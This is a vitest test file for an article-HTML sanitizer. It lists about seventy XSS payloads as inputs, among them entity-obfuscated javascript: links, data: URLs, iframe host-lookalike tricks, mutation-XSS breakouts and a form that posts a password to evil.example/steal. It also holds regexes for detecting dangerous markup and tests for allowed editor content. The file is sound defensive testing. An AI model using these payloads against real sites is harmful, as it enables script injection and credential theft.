@@ -1,0 +1,291 @@
+import { describe, expect, it } from 'vitest';
+import { sanitizeArticleHtml } from '../../server/modules/articles/sanitize';
+
+/** What no stored article body may contain, however the attack was spelled. */
+function expectHarmless(html: string) {
+  expect(html).not.toMatch(/<script/i);
+  // Inside a tag; escaped text such as "&lt;img onerror=…&gt;" is shown, never run.
+  expect(html).not.toMatch(/<[^>]*\son\w+\s*=/i);
+  expect(html).not.toMatch(/javascript:/i);
+  expect(html).not.toMatch(/vbscript:/i);
+  expect(html).not.toMatch(/(?:href|src|action|data|srcdoc)\s*=\s*["']?\s*data:/i);
+  expect(html).not.toMatch(
+    /<(?:iframe|object|embed|form|input|button|meta|base|style|link|svg|math)\b(?![^>]*\bsrc="https:\/\/(?:www\.youtube\.com|www\.youtube-nocookie\.com|player\.vimeo\.com)\/)/i,
+  );
+  expect(html).not.toMatch(/\bsrcdoc\b/i);
+  expect(html).not.toMatch(/expression\s*\(/i);
+}
+
+const XSS: [string, string][] = [
+  ['script tag', '<p>Hi</p><script>alert(1)</script>'],
+  ['script tag, upper case', '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>'],
+  [
+    'script with attributes and type',
+    '<script type="module">import("https://evil.example")</script>',
+  ],
+  ['img onerror', '<img src="x" onerror="alert(1)">'],
+  ['img onerror without quotes', '<img src=x onerror=alert(1)//>'],
+  ['https img with onerror', '<img src="https://cdn.example/a.jpg" onerror="alert(1)">'],
+  ['img onload, odd spacing', '<img src="/media/a.jpg"\nonload\t=\n"alert(1)">'],
+  ['svg onload', '<svg onload="alert(1)"><circle r="10"/></svg>'],
+  ['svg with a script inside', '<svg><script>alert(1)</script></svg>'],
+  [
+    'svg animate href',
+    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
+  ],
+  ['javascript: href', '<a href="javascript:alert(1)">click</a>'],
+  ['javascript: href, mixed case', '<a href="JaVaScRiPt:alert(1)">click</a>'],
+  ['javascript: href with leading space', '<a href="  javascript:alert(1)">click</a>'],
+  ['javascript: href with a tab inside', '<a href="java\tscript:alert(1)">click</a>'],
+  ['javascript: href with a newline inside', '<a href="java\nscript:alert(1)">click</a>'],
+  [
+    'javascript: href, decimal entities',
+    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
+  ],
+  ['javascript: href, hex entity', '<a href="jav&#x61;script:alert(1)">x</a>'],
+  ['javascript: href, padded entities', '<a href="&#0000106&#0000097vascript:alert(1)">x</a>'],
+  ['javascript: href, named entity colon', '<a href="javascript&colon;alert(1)">x</a>'],
+  ['javascript: href, control character', '<a href="\u0001javascript:alert(1)">x</a>'],
+  ['data: href', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
+  ['data: href, mixed case', '<a href="DaTa:text/html,<script>alert(1)</script>">x</a>'],
+  ['data: img', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
+  ['vbscript: href', '<a href="vbscript:msgbox(1)">x</a>'],
+  ['vbscript: href, mixed case', '<a href="VbScRiPt:msgbox(1)">x</a>'],
+  ['iframe from another host', '<iframe src="https://evil.example/embed/x"></iframe>'],
+  ['iframe, javascript: src', '<iframe src="javascript:alert(1)"></iframe>'],
+  [
+    'iframe, host lookalike',
+    '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
+  ],
+  [
+    'iframe, userinfo trick',
+    '<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>',
+  ],
+  ['iframe, http YouTube', '<iframe src="http://www.youtube.com/embed/abc"></iframe>'],
+  [
+    'iframe, YouTube page not an embed',
+    '<iframe src="https://www.youtube.com/redirect?q=https://evil.example"></iframe>',
+  ],
+  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
+  [
+    'iframe srcdoc beside an allowed src',
+    '<iframe src="https://www.youtube.com/embed/abc" srcdoc="<script>alert(1)</script>"></iframe>',
+  ],
+  [
+    'iframe onload beside an allowed src',
+    '<iframe src="https://www.youtube.com/embed/abc" onload="alert(1)"></iframe>',
+  ],
+  ['style expression', '<p style="width: expression(alert(1))">x</p>'],
+  ['style url(javascript:)', '<p style="background:url(javascript:alert(1))">x</p>'],
+  [
+    'style with text-align and url()',
+    '<p style="text-align:center; background-image:url(javascript:alert(1))">x</p>',
+  ],
+  ['style tag', '<style>body{background:url("javascript:alert(1)")}</style><p>x</p>'],
+  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
+  [
+    'object',
+    '<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"></object>',
+  ],
+  ['object with data: url', '<object data="data:text/html,<script>alert(1)</script>"></object>'],
+  ['embed', '<embed src="https://evil.example/x.swf">'],
+  [
+    'form and input',
+    '<form action="https://evil.example/steal"><input name="password" type="password"><button formaction="javascript:alert(1)">Go</button></form>',
+  ],
+  ['input autofocus onfocus', '<input autofocus onfocus="alert(1)">'],
+  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
+  ['base href', '<base href="https://evil.example/">'],
+  ['event handler on a paragraph', '<p onclick="alert(1)">x</p>'],
+  ['event handler on a heading', '<h2 onmouseover="alert(1)">x</h2>'],
+  ['event handler on a link', '<a href="https://ok.example" onclick="alert(1)">x</a>'],
+  ['event handler on a table cell', '<table><tr><td onmouseenter="alert(1)">x</td></tr></table>'],
+  ['event handler on blockquote', '<blockquote onanimationstart="alert(1)">x</blockquote>'],
+  ['event handler, upper case', '<p ONCLICK="alert(1)">x</p>'],
+  ['http: image', '<img src="http://cdn.example/a.jpg">'],
+  ['protocol-relative image', '<img src="//evil.example/a.jpg">'],
+  ['protocol-relative link', '<a href="//evil.example/">x</a>'],
+  ['protocol-relative iframe', '<iframe src="//www.youtube.com/embed/abc"></iframe>'],
+  ['nested script tags', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
+  ['script split by a tag', '<<script>script>alert(1)<</script>/script>'],
+  ['unclosed script', '<script>alert(1)'],
+  ['unclosed img attribute', '<img src="https://a.example/a.jpg" onerror="alert(1)'],
+  ['noscript breakout', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
+  ['textarea breakout', '<textarea><img src=x onerror=alert(1)></textarea>'],
+  ['title breakout', '<title><img src=x onerror=alert(1)></title>'],
+  ['comment trick', '<!--<img src="--><img src=x onerror=alert(1)//">'],
+  ['CDATA trick', '<![CDATA[<script>alert(1)</script>]]>'],
+  ['math mglyph confusion', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
+  ['template', '<template><script>alert(1)</script></template>'],
+  ['attribute without quotes, slash separator', '<img/src="x"/onerror="alert(1)">'],
+  [
+    'a with formaction-like attrs',
+    '<a href="https://ok.example" style="position:fixed;top:0" onfocus="alert(1)" autofocus tabindex="1">x</a>',
+  ],
+  ['xlink href', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
+  ['body onload', '<body onload="alert(1)"><p>x</p></body>'],
+  ['details ontoggle', '<details open ontoggle="alert(1)"><summary>x</summary></details>'],
+  ['video onerror', '<video src="x" onerror="alert(1)"></video>'],
+  ['audio with source', '<audio><source src="x" onerror="alert(1)"></audio>'],
+];
+
+describe('sanitizeArticleHtml: what must never survive', () => {
+  it.each(XSS)('%s', (_name, html) => {
+    expectHarmless(sanitizeArticleHtml(html));
+  });
+
+  it('removes every vector when they come together', () => {
+    expectHarmless(sanitizeArticleHtml(XSS.map(([, html]) => html).join('\n')));
+  });
+
+  it('keeps the text of a paragraph whose handler it removes', () => {
+    expect(sanitizeArticleHtml('<p onclick="alert(1)">Hello</p>')).toBe('<p>Hello</p>');
+  });
+
+  it('drops the href of a dangerous link but keeps its text', () => {
+    expect(sanitizeArticleHtml('<a href="javascript:alert(1)">click</a>')).toBe('<a>click</a>');
+  });
+
+  it('drops script content rather than showing it as text', () => {
+    expect(sanitizeArticleHtml('<p>a</p><script>alert("x")</script><p>b</p>')).toBe(
+      '<p>a</p><p>b</p>',
+    );
+  });
+
+  it('removes images that are not from /media/ or https', () => {
+    for (const src of [
+      'http://cdn.example/a.jpg',
+      '//cdn.example/a.jpg',
+      'data:image/png;base64,AAAA',
+      'x',
+      '/elsewhere/a.jpg',
+    ]) {
+      expect(sanitizeArticleHtml(`<img src="${src}" alt="a">`), src).not.toMatch(/<img/);
+    }
+  });
+
+  it('keeps only text-align in style', () => {
+    expect(sanitizeArticleHtml('<p style="color:red;text-align:right">x</p>')).toBe(
+      '<p style="text-align:right">x</p>',
+    );
+    expect(sanitizeArticleHtml('<p style="text-align:expression(alert(1))">x</p>')).toBe(
+      '<p>x</p>',
+    );
+  });
+
+  it('refuses classes other than a code language', () => {
+    expect(sanitizeArticleHtml('<p class="admin-only">x</p>')).toBe('<p>x</p>');
+    expect(sanitizeArticleHtml('<code class="language-js evil">x</code>')).toBe(
+      '<code class="language-js">x</code>',
+    );
+  });
+});
+
+describe('sanitizeArticleHtml: what an editor writes survives', () => {
+  it('keeps h2 and h3 headings, paragraphs and inline marks', () => {
+    const html =
+      '<h2>शीर्षक</h2><h3>Sub heading</h3><p>Some <strong>bold</strong>, <em>italic</em>, <u>underlined</u> and <s>struck</s> text.<br />Next line.</p>';
+    expect(sanitizeArticleHtml(html)).toBe(html);
+  });
+
+  it('keeps ordered and unordered lists, with a start number', () => {
+    const html = '<ul><li>One</li><li>Two</li></ul><ol start="3"><li>Three</li></ol>';
+    expect(sanitizeArticleHtml(html)).toBe(html);
+  });
+
+  it('keeps https links and marks external ones noopener noreferrer nofollow', () => {
+    expect(sanitizeArticleHtml('<a href="https://example.com/page">read</a>')).toBe(
+      '<a href="https://example.com/page" rel="noopener noreferrer nofollow">read</a>',
+    );
+    expect(
+      sanitizeArticleHtml('<a href="https://example.com" target="_blank" rel="opener">x</a>'),
+    ).toBe(
+      '<a href="https://example.com" target="_blank" rel="noopener noreferrer nofollow">x</a>',
+    );
+  });
+
+  it('keeps mailto and site-relative links without forcing rel', () => {
+    expect(sanitizeArticleHtml('<a href="mailto:editor@patrika.example">mail</a>')).toBe(
+      '<a href="mailto:editor@patrika.example">mail</a>',
+    );
+    expect(sanitizeArticleHtml('<a href="/about-us">about</a>')).toBe(
+      '<a href="/about-us">about</a>',
+    );
+  });
+
+  it('keeps images from /media/ and https, lazily loaded', () => {
+    expect(
+      sanitizeArticleHtml(
+        '<img src="/media/2026/01/0b7c1d2e-0000-4000-8000-000000000000/w800.webp" alt="A lake" width="800" height="450">',
+      ),
+    ).toBe(
+      '<img src="/media/2026/01/0b7c1d2e-0000-4000-8000-000000000000/w800.webp" alt="A lake" width="800" height="450" loading="lazy" />',
+    );
+    expect(sanitizeArticleHtml('<img src="https://images.example.com/a.jpg" alt="x">')).toBe(
+      '<img src="https://images.example.com/a.jpg" alt="x" loading="lazy" />',
+    );
+  });
+
+  it('keeps tables with header cells and spans', () => {
+    const html =
+      '<table><thead><tr><th colspan="2" scope="col">Head</th></tr></thead><tbody><tr><td rowspan="2">1</td><td>2</td></tr></tbody></table>';
+    expect(sanitizeArticleHtml(html)).toBe(html);
+  });
+
+  it('keeps code blocks with their language class', () => {
+    const html =
+      '<pre class="language-typescript"><code class="language-typescript">const a = 1 &lt; 2;</code></pre>';
+    expect(sanitizeArticleHtml(html)).toBe(html);
+  });
+
+  it('keeps blockquotes', () => {
+    const html = '<blockquote><p>Quoted words.</p></blockquote>';
+    expect(sanitizeArticleHtml(html)).toBe(html);
+  });
+
+  it.each([
+    'https://www.youtube.com/embed/dQw4w9WgXcQ',
+    'https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?start=30',
+    'https://player.vimeo.com/video/76979871',
+  ])('keeps the video embed %s, sandboxed', (src) => {
+    const out = sanitizeArticleHtml(
+      `<iframe src="${src}" width="560" height="315" title="Video" allowfullscreen></iframe>`,
+    );
+    expect(out).toMatch(/^<iframe /);
+    expect(out).toContain(`src="${src.replace(/&/g, '&amp;')}"`);
+    expect(out).toMatch(/\ssandbox="[^"]*allow-scripts[^"]*"/);
+    expect(out).not.toMatch(/allow-top-navigation|allow-forms/);
+    expect(out).toContain('title="Video"');
+    expect(out).toContain('allowfullscreen');
+  });
+
+  it('overrides a sandbox the author wrote', () => {
+    const out = sanitizeArticleHtml(
+      '<iframe src="https://www.youtube.com/embed/abc" sandbox="allow-top-navigation allow-forms"></iframe>',
+    );
+    expect(out).toMatch(
+      /\ssandbox="allow-scripts allow-same-origin allow-presentation allow-popups"/,
+    );
+  });
+
+  it.each(['left', 'right', 'center', 'justify'])('keeps text-align:%s', (align) => {
+    expect(sanitizeArticleHtml(`<p style="text-align:${align}">x</p>`)).toBe(
+      `<p style="text-align:${align}">x</p>`,
+    );
+    expect(sanitizeArticleHtml(`<h2 style="text-align:${align}">x</h2>`)).toBe(
+      `<h2 style="text-align:${align}">x</h2>`,
+    );
+  });
+
+  it('keeps a whole article unchanged', () => {
+    const article = [
+      '<h2>परिचय</h2>',
+      '<p style="text-align:justify">पहला अनुच्छेद, <a href="https://hi.wikipedia.org/wiki/%E0%A4%AD%E0%A4%BE%E0%A4%B0%E0%A4%A4" rel="noopener noreferrer nofollow">भारत</a> के बारे में।</p>',
+      '<h3>Details</h3>',
+      '<ul><li>One</li><li>Two</li></ul>',
+      '<blockquote><p>Quote</p></blockquote>',
+      '<pre class="language-js"><code class="language-js">let x = 1;</code></pre>',
+    ].join('');
+    expect(sanitizeArticleHtml(article)).toBe(article);
+  });
+});
